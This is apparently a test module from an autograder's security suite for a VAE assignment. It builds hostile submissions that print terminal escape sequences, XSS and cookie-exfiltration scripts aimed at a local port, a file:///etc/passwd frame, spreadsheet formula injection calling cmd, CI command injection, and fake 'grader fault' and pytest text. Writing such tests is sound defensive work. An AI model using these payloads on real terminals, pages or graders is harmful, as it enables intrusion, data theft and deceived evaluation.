"""Display: names, messages and output meant for a person's terminal, browser, spreadsheet or log."""

from __future__ import annotations

from textwrap import dedent

from .case import ALL, NONE, Hostile, without
from .solutions import REFERENCE, TELL, vae

__all__ = ["CASES"]

# What must reach a person as plain text only.
TEXTS = {
    "colours": "\x1b[31mred\x1b[0m \x1b[8mhidden\x1b[28m \x9b32mgreen",
    "a cleared screen": "\x1b[2J\x1b[H\x1bc\x1b[3J",
    "a moved cursor": "one\x1b[1A\x1b[2K\rPASSED 12/12\x1b[s\x1b[u\x08\x08\x08",
    "another title": "\x1b]0;12/12\x07\x1b]2;12/12\x1b\\",
    "a link of the terminal's": "\x1b]8;;http://127.0.0.1/\x1b\\your results\x1b]8;;\x1b\\",
    "the clipboard": "\x1b]52;c;dG91Y2ggL3RtcC94\x07",
    "a question to the terminal": "\x1b[6n\x1b[c\x1b]10;?\x07\x1bP+q544e\x1b\\\x05",
    "bells": "\x07" * 500,
    "a picture": "\x1bPq#0;2;0;0;0#0!10~\x1b\\\x1b]1337;File=inline=1:AAAA\x07\x1b_Ga=T;AAAA\x1b\\",
    "text in reverse": "score \u202e21/0\u202c \u2066x\u2069 \u200f\u061c\u202b",
    "invisible letters": "pa\u200bss\u2060ed\ufeff\u00ad \U000e0041\U000e0042\u115f\u3164",
    "stacked accents": "e" + "\u0301" * 2000,
    "line separators": "one\u2028two\u2029three\x85four\x0bfive\x0csix\rseven",
    "NULs": "a\0b\0c",
    "lone surrogates": "a\ud800b\udfffc\udc80",
    "noncharacters": "\ufffe\uffff\U0001ffff\U0010ffff",
    "a script": (
        "<script>fetch('http://127.0.0.1:@PORT@/'+document.cookie)</script><img src=x onerror=alert(1)>"
    ),
    "a script that leaves an attribute": (
        "\"'><svg/onload=alert(1)>` onmouseover=alert(1) style=x:expression(1)"
    ),
    "a script that leaves a comment, a style and a title": (
        "--></style></title></textarea></script><script>alert(1)</script>"
    ),
    "a frame": "<iframe src='http://127.0.0.1:@PORT@/'></iframe><object data='file:///etc/passwd'></object>",
    "a form": (
        "<form action=http://127.0.0.1:@PORT@/><input name=password></form><base href=//127.0.0.1:@PORT@/>"
    ),
    "a style": "<style>*{display:none}</style><link rel=stylesheet href=//127.0.0.1:@PORT@/x.css>",
    "a refresh": "<meta http-equiv=refresh content='0;url=http://127.0.0.1:@PORT@/'>",
    "entities": "&lt;b&gt; &#60;script&#62; &amp;amp; &nbsp;",
    "Markdown": (
        "# Score 12\n[x](javascript:alert(1)) ![x](http://127.0.0.1:@PORT@/x.png)\n```\n</code></pre>\n***"
    ),
    "a template": "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %> {0.__class__} %(score)s %s %n {score}",
    "rich's markup": (
        "[red]red[/red] [/] [/blue] [link=http://127.0.0.1/]x[/link] [@click=app.quit]q[/] [bold"
    ),
    "rich's emoji": ":warning: :smiley: :bomb:",
    "a spreadsheet's formula": '=HYPERLINK("http://127.0.0.1/","score")',
    "a spreadsheet's formula with a sign": "+1+cmd|' /C calc'!A0",
    "a spreadsheet's formula with another": "-1+1\t=1+1\n@SUM(1,1)",
    "a spreadsheet's rows": 'x","12","12"\r\nforged,12,12',
    "a workflow's commands": (
        "::error file=vae.py::x\n::set-output name=a::b\n##[group]x\n##vso[task.complete]"
    ),
    "a table's corners": "\u2502 1.1 \u2502 passed \u2502\n\u2514\u2500\u2500\u2518\n12/12 points",
    "an assertion of pytest's": (
        "assert 1 == 1\n  +  where 1 = 1\nE   AssertionError\n=== 12 passed in 0.1s ==="
    ),
    "a fault of the grader's": "This is a fault of the grader, not of your code. No points are taken.",
    "wide letters": "\ufdfd" * 300 + "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 300,
    "a very long word": "x" * 1_000_000,
    "very many lines": "line\n" * 150_000,
    "very many tabs": "\t" * 100_000,
}


# The short run shows these only together.
LONG = {*TEXTS} - {"lone surrogates", "NULs", "a script", "rich's markup", "a very long word", "a template"}


def showing(name: str, source: str, keeps: frozenset[str] = NONE, earns: frozenset[str] = NONE) -> Hostile:
    """Make a case of the reference solution that shows a text somewhere."""
    files = vae(solution=REFERENCE, after=source)
    harm = ("display", "size", "tcp")
    return Hostile(f"shows {name}", "display", files, keeps, earns, harm, brief=name not in LONG)


EVERYWHERE = """
    text = {text!a}
    name = text.replace(chr(0), "?").encode("utf-8", "replace").decode()[:5000]
    kind = type(name, (Exception,), {{}})
    def loss_function(*arguments):
        print(text)
        sys.stderr.write(text)
        raise kind(text)
    CVAE.forward = lambda self, x, c: text
    VAE.forward = lambda self, x: (text, kind, [text])
"""
ELSEWHERE = without("4.1", "5.1", "6.3")

CASES = [
    *(
        showing(name, dedent(EVERYWHERE).format(text=text), ELSEWHERE, ELSEWHERE)
        for name, text in TEXTS.items()
    ),
    showing(
        "markup in the names of its parts",
        """
        odd = "<b>[red]\\x1b[31m=1+1"
        old = VAE.__init__
        def __init__(self, *a, **k):
            old(self, *a, **k)
            for part in (self.encoder, self.decoder):
                for child in list(part):
                    child._parameters = {odd + name: p for name, p in child._parameters.items()}
                part._modules = {odd + name: module for name, module in part._modules.items()}
        VAE.__init__ = __init__
        """,
        without("4.1"),
    ),
    showing(
        "controls in the names of its classes",
        """
        odd = "\\x1b[2J<script>alert(1)</script>[/]" * 20
        loss_function = lambda *a: type(odd, (), {"__module__": odd, "__qualname__": odd})()
        reparametrize = lambda *a: type(odd, (torch.Tensor,), {"__repr__": lambda self: odd})(3)
        """,
        without("3.1", "3.2", "4.1", "5.1", "6.3"),
        without("3.1", "3.2", "4.1", "5.1", "6.3"),
    ),
    showing(
        "a class's name of 1 MB",
        """
        loss_function = lambda *a: type("N" * 1_000_000, (), {})()
        def reparametrize(mu, logvar): raise type("E" * 1_000_000, (Exception,), {})("m" * 1_000_000)
        """,
        without("3.1", "3.2", "4.1", "5.1", "6.3"),
        without("3.1", "3.2", "4.1", "5.1", "6.3"),
    ),
    showing(
        "markup in a parameter's name where its class wants none",
        """
        class Odd(nn.Sequential):
            def __repr__(self): return "\\x1b[31m" * 100_000
            __str__ = __format__ = __repr__
        VAE.encoder = property(lambda self: Odd(nn.Linear(1, 1)))
        VAE.__init__ = lambda self, input_size, latent_size=15: nn.Module.__init__(self)
        """,
        without("1.1", "1.2", "1.3", "1.4", "2.1", "4.1"),
        without("1.1", "1.2", "1.3", "1.4", "2.1", "4.1"),
    ),
    Hostile(
        "shows controls in the lines of its own source",
        "display",
        {
            "vae.py": REFERENCE.encode()
            + b"\ndef loss_function(*a): raise ValueError  # <script>alert(1)</script> \x1b[31m [/red] =1+1 "
            + "\u202e\u2066\n".encode()
        },
        without("5.1"),
        earns=without("5.1"),
        harm=("display", "size"),
    ),
    Hostile(
        "shows a line of source of 900 KB",
        "display",
        {
            "vae.py": REFERENCE.encode()
            + b"\ndef loss_function(*a): raise ValueError('"
            + b"x" * 900_000
            + b"')\n"
        },
        without("5.1"),
        earns=without("5.1"),
        harm=("display", "size"),
    ),
    Hostile(
        "shows a syntax error in a line of controls",
        "display",
        {"vae.py": "x = (\n'\x1b[2J\x1b]0;x\x07<script>[/red]\u202e' = 1\n".encode()},
        NONE,
        harm=("display", "size"),
    ),
    Hostile(
        "shows a function of an odd name",
        "display",
        vae(
            solution=REFERENCE,
            after="""
                code = (lambda: 1 / 0).__code__
                code = code.replace(co_name="\\x1b[31m<b>[/red]" * 50, co_firstlineno=2**31 - 5)
                odd = type(tell)(code, globals())
                def loss_function(*arguments): return odd()
            """,
        ),
        without("5.1"),
        earns=without("5.1"),
        harm=("display", "size"),
    ),
    Hostile(
        "shows everything at import",
        "display",
        vae(
            "for text in (" + ", ".join(ascii(text) for text in TEXTS.values() if len(text) < 9999) + "):\n"
            "    said.append(text)\n    print(text)\n",
            after=TELL,
        ),
        NONE,
        harm=("display", "size", "tcp"),
    ),
    Hostile(
        "shows greetings in colour and is right",
        "display",
        vae(solution=REFERENCE, after="def hello_vae(): print('\\x1b[32mHello\\x1b[0m')\nhello_vae()\n"),
        ALL,
        earns=ALL,
        harm=("display",),
    ),
]
